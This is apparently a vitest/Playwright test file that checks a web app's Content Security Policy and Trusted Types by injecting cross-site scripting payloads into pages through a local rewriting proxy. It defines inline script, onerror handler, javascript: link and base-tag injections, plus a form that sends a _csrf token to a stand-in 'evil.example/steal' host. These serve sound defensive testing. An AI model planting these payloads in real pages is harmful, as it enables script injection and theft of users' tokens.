import { type IncomingMessage, type ServerResponse, createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { launchBrowser } from '../support/browser.ts'
import { type TestServer, signedIn, startServer } from '../support/server.ts'

let browser: Browser
let server: TestServer
/** Another site, which writes down what it is asked for. */
let elsewhere: string
const askedElsewhere: string[] = []
const otherSite = createServer((request, response) => {
  askedElsewhere.push(request.url ?? '')
  response.setHeader('access-control-allow-origin', '*').end()
})

beforeAll(async () => {
  ;[browser, server] = await Promise.all([launchBrowser(), startServer({ demo: true })])
  await new Promise<void>((resolve) => otherSite.listen(0, '127.0.0.1', resolve))
  await new Promise<void>((resolve) => rewriter.listen(0, 'localhost', resolve))
  elsewhere = `http://127.0.0.1:${(otherSite.address() as AddressInfo).port}`
})

afterAll(async () => {
  await browser?.close()
  await server?.close()
  otherSite.close()
  rewriter.close()
})

/** The page's own script, which the policy allows: tells what the browser refused, and tries what no script may. */
const ownScript = `
window.refused = []
document.addEventListener('securitypolicyviolation', (e) => window.refused.push(e.effectiveDirective + ' ' + e.blockedURI))
const attempt = (name, f) => { try { f(); return [name, 'ran'] } catch (e) { return [name, e.name] } }
window.addEventListener('load', () => {
  const link = document.querySelector('#javascript-link')
  if (link) link.click()
  window.attempts = Object.fromEntries([
    attempt('eval', () => eval('window.hackedByEval = 1')),
    attempt('Function', () => new Function('window.hackedByFunction = 1')()),
    attempt('setTimeout', () => setTimeout('window.hackedByTimeout = 1', 0)),
    attempt('innerHTML', () => { document.createElement('div').innerHTML = '<img src=x onerror="hackedBySink=1">' }),
    attempt('outerHTML', () => { const e = document.createElement('p'); document.body.append(e); e.outerHTML = '<b>x</b>' }),
    attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')),
    attempt('document.write', () => document.implementation.createHTMLDocument('').write('<b>x</b>')),
    attempt('srcdoc', () => { document.createElement('iframe').srcdoc = '<b>x</b>' }),
    attempt('script.text', () => { document.createElement('script').text = 'window.hackedByText = 1' }),
    attempt('script.src', () => { document.createElement('script').src = 'https://evil.example/x.js' }),
    attempt('DOMParser', () => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
    attempt('a policy', () => trustedTypes.createPolicy('default', { createHTML: (s) => s })),
  ])
})`

const injected = `
  <script>window.hackedInline = 1</script>
  <script src="https://evil.example/x.js"></script>
  <img src="data:image/png;base64,x" onerror="window.hackedByHandler = 1">
  <img src="https://evil.example/pixel.png"><link rel="stylesheet" href="https://evil.example/x.css">
  <style>body { background: url(https://evil.example/x.png); outline: 7px solid red }</style>
  <p id="styled" style="outline: 9px solid red">x</p>
  <a id="javascript-link" href="javascript:window.hackedByLink = 1">x</a>
  <iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object>
  <form id="form" action="https://evil.example/steal"><input name="_csrf" value="x"></form>`

/**
 * Somebody between the server and the browser, who writes into pages as a flaw of ours would; under `/open` with the
 * headers that protect taken away.
 */
const rewriter = createServer((request, response) => void rewrite(request, response))

async function rewrite(request: IncomingMessage, response: ServerResponse): Promise<void> {
  const asked = new URL(request.url ?? '', 'http://localhost')
  if (asked.pathname === '/assets/own.js') {
    response
      .setHeader('content-type', 'text/javascript')
      .setHeader('cross-origin-resource-policy', 'same-origin')
      .end(ownScript.replaceAll('https://evil.example', elsewhere))
    return
  }
  const open = asked.searchParams.has('open')
  const answer = await fetch(server.url + asked.pathname, {
    headers: { cookie: request.headers.cookie ?? '' },
    redirect: 'manual',
  })
  for (const [name, value] of answer.headers)
    if (!['content-length', 'content-encoding', 'transfer-encoding', 'connection'].includes(name))
      if (!open || !['content-security-policy', 'cross-origin-embedder-policy'].includes(name))
        response.setHeader(name, value)
  const body = Buffer.from(await answer.arrayBuffer())
  response.statusCode = answer.status
  if (!answer.headers.get('content-type')?.startsWith('text/html')) response.end(body)
  else
    response.end(
      body
        .toString()
        .replace('<head>', '<head><script src="/assets/own.js"></script><base href="https://evil.example/">')
        .replace('</body>', `${injected}</body>`)
        .replaceAll('https://evil.example', elsewhere),
    )
}

interface Found {
  readonly hacked: readonly string[]
  readonly refused: readonly string[]
  readonly attempts: Readonly<Record<string, string>>
  readonly base: string
  readonly outline: string
  readonly asked: readonly string[]
}

async function visitRewritten(path: string, policy: boolean): Promise<Found> {
  const { page, context } = await signedIn(browser, server)
  try {
    askedElsewhere.length = 0
    const through = `http://localhost:${(rewriter.address() as AddressInfo).port}`
    await page.goto(`${through}${path}${policy ? '' : '?open'}`, { waitUntil: 'load' })
    await page.waitForFunction('window.attempts !== undefined')
    await page.waitForTimeout(300)
    // A form that a script of ours is made to send.
    const form = 'document.getElementById("form").requestSubmit()'
    const found = (await page.evaluate(`({
      hacked: Object.keys(window).filter((name) => name.startsWith('hacked')),
      refused: [...new Set(window.refused)], attempts: window.attempts, base: document.baseURI,
      outline: getComputedStyle(document.getElementById('styled')).outlineStyle })`)) as Omit<Found, 'asked'>
    await page.evaluate(form).catch(() => undefined)
    await page.waitForTimeout(300)
    return { ...found, asked: [...askedElsewhere] }
  } finally {
    await context.close()
  }
}

const pages = [
  '/workspace',
  '/workspace/records/person',
  '/workspace/search',
  '/site/demo/en',
  '/sign-in',
] as const

describe('what a flaw would let somebody write into a page', () => {
  test('runs where there is no policy: this test can see it', async () => {
    const found = await visitRewritten('/workspace', false)
    for (const name of ['Inline', 'ByHandler', 'ByLink', 'ByEval', 'ByFunction', 'ByTimeout', 'BySink'])
      expect(found.hacked, name).toContain(`hacked${name}`)
    expect(Object.values(found.attempts)).toEqual(Object.values(found.attempts).map(() => 'ran'))
    expect(found.base).toBe(`${elsewhere}/`)
    expect(found.outline).toBe('solid')
    expect(found.asked).toEqual(
      expect.arrayContaining(['/x.js', '/pixel.png', '/x.css', '/', '/steal?_csrf=x']),
    )
  })

  test.each(pages)('does nothing on %s: Chromium refuses each of it (claims 17, 20)', async (path) => {
    const found = await visitRewritten(path, true)
    expect(found.hacked).toEqual([])
    expect(new URL(found.base).pathname).toBe(path)
    expect(found.outline).toBe('none')
    expect(found.asked).toEqual([])
    for (const [name, outcome] of Object.entries(found.attempts))
      expect([name, outcome]).toEqual([
        name,
        name === 'eval' || name === 'Function' || name === 'setTimeout'
          ? expect.stringMatching(/^(EvalError|TypeError)$/)
          : 'TypeError',
      ])
    const refused = found.refused.join('\n')
    for (const directive of [
      'script-src-elem inline',
      'script-src-attr inline',
      `script-src-elem ${elsewhere}/x.js`,
      'style-src-elem inline',
      'style-src-attr inline',
      `base-uri ${elsewhere}`,
      `img-src ${elsewhere}/pixel.png`,
      'require-trusted-types-for trusted-types-sink',
      'trusted-types trusted-types-policy',
      'frame-src',
      'object-src',
    ])
      expect(refused).toContain(directive)
  })
})
